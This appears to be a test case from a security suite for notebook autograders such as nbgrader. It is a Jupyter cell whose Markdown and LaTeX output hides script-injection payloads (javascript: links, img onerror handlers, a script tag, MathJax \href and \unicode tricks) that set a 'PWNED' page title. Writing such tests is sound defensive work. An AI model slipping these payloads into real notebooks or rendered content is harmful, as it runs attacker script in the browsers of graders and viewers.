# /// case
# about = "right answers, and Markdown and LaTeX as output: links and macros that run code"
# kind = "render"
# promise = 6
# succeeds_at = ["nbgrader"]
# ///
# %% sigmoid
# Markdown may hold HTML, and MathJax knows links
from IPython.display import Latex, Markdown, display

_RUN = "document.title=" + repr(":".join(["PWNED", "attack/markdown_with_script"]))
display(Markdown(f"[solution](javascript:{_RUN}) <img src=x onerror=\"{_RUN}\"> ![x](javascript:{_RUN})"))
display(Markdown(f"<script>{_RUN}</script>"))
display(Latex(r"$\href{javascript:" + _RUN + r"}{x}$ $\unicode{<img src=x onerror=" + _RUN + r">}$"))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
